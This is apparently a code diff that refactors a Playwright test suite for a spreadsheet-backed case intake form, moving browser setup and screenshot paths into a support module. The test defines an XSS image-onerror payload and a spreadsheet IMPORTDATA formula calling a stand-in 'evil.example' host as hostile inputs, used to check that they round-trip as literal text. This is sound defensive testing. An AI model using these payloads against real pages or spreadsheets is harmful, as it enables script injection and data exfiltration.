@@ -3,34 +3,19 @@
  * beside fields, a double click saving one case, hostile text round-tripping as literal text, and
  * keyboard-only use. Screenshots go to test-output/screenshots/.
  */
-import { mkdirSync } from 'node:fs';
-import * as path from 'node:path';
-import type { Browser, Page } from 'playwright-core';
+import type { Page } from 'playwright-core';
 import { clickMenuItem, createWorkspace, Execution, openSpreadsheet, type Workspace } from '../../emulator';
-import { launchChromium } from '../../emulator/browser/chromium';
-import { eventually, type OpenedPage, openBuiltPage } from '../../emulator/browser/page-harness';
+import { eventually, type OpenedPage } from '../../emulator/browser/page-harness';
 import { createServiceGlobals } from '../../emulator/globals';
+import { screenshotPath, useBrowser } from './support';
 
 jest.setTimeout(40_000);
-const SCREENSHOTS = path.resolve('test-output/screenshots');
 const OWNER = 'lead@governance.example';
 const OPS = 'ana.ops@governance.example';
 const HOSTILE = '<img src=x onerror=alert(1)>';
 const FORMULA = '=IMPORTDATA("https://evil.example/leak")';
-let browser: Browser;
+const browser = useBrowser();
 let opened: OpenedPage | null = null;
-
-beforeAll(async () => {
-  mkdirSync(SCREENSHOTS, { recursive: true });
-  browser = await launchChromium();
-});
-afterEach(async () => {
-  await opened?.close();
-  opened = null;
-});
-afterAll(async () => {
-  await browser?.close();
-});
 
 function tracker() {
   const ws = createWorkspace({ users: [{ email: OWNER }, { email: OPS }] });
@@ -52,7 +37,7 @@ function casesSheet(ws: Workspace, spreadsheetId: string) {
 }
 
 async function open(ws: Workspace, spreadsheetId: string, replyDelayMs = 0): Promise<Page> {
-  opened = await openBuiltPage(browser, ws, {
+  opened = await browser.open(ws, {
     page: 'intake',
     user: OPS,
     spreadsheetId,
@@ -87,12 +72,12 @@ test('the form is built from the schema with labelled controls; fill and submit 
           .length,
     );
   expect(labelled).toBeGreaterThanOrEqual(10);
-  await page.screenshot({ path: path.join(SCREENSHOTS, 'intake-empty.png'), fullPage: true });
+  await page.screenshot({ path: screenshotPath('intake-empty'), fullPage: true });
   await fillValid(page);
   await page.getByRole('button', { name: 'Save case' }).click();
   await page.locator('#state-success').waitFor();
   await expect(page.locator('#success-case').textContent()).resolves.toBe('CB-2026-00001');
-  await page.screenshot({ path: path.join(SCREENSHOTS, 'intake-success.png'), fullPage: true });
+  await page.screenshot({ path: screenshotPath('intake-success'), fullPage: true });
   const { cell } = casesSheet(ws, spreadsheetId);
   expect(cell(2, 'Seller ID').getValue()).toBe('S-4711');
   expect(cell(2, 'Created by').getValue()).toBe(OPS);
@@ -122,7 +107,7 @@ test('every kind of invalid input shows its message beside its field, and nothin
   );
   await expect(page.locator('#field-sellerId').getAttribute('aria-invalid')).resolves.toBe('true');
   await expect(page.locator('#form-errors').textContent()).resolves.toBe('5 fields need fixing.');
-  await page.screenshot({ path: path.join(SCREENSHOTS, 'intake-errors.png'), fullPage: true });
+  await page.screenshot({ path: screenshotPath('intake-errors'), fullPage: true });
   expect(opened?.serverCalls).toEqual(['getIntakeOptions']);
   expect(casesSheet(ws, spreadsheetId).cases.getLastRow()).toBe(1);
 });
